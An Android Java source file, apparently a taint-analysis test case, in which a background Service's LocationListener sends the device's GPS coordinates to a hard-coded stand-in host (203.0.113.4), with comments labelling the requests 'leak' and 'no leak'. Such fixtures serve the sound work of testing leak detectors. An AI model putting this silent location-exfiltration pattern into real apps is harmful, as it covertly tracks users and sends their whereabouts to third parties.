package habits;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.os.IBinder;
import java.net.URL;
import java.util.Locale;

/** A listener in a class of its own, told where to send in its constructor. */
public class GpsListener extends Service {
    static final class Tracker implements LocationListener {
        private final String server;

        Tracker(String server) {
            this.server = server;
        }

        @Override
        public void onLocationChanged(Location where) {
            try {
                String at = String.format(Locale.ROOT, "%.5f,%.5f", where.getLatitude(), where.getLongitude());
                new URL(server + "?at=" + at).openStream().close(); // leak
                new URL(server + "?by=" + where.getProvider()).openStream().close(); // no leak
            } catch (Exception ignored) {
            }
        }

        @Override
        public void onStatusChanged(String provider, int status, Bundle extras) {
        }

        @Override
        public void onProviderEnabled(String provider) {
        }

        @Override
        public void onProviderDisabled(String provider) {
        }
    }

    @Override
    public void onCreate() {
        LocationManager manager = (LocationManager) getSystemService(Context.LOCATION_SERVICE);
        manager.requestLocationUpdates(LocationManager.GPS_PROVIDER, 1000, 1f, new Tracker("http://203.0.113.4/track"));
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
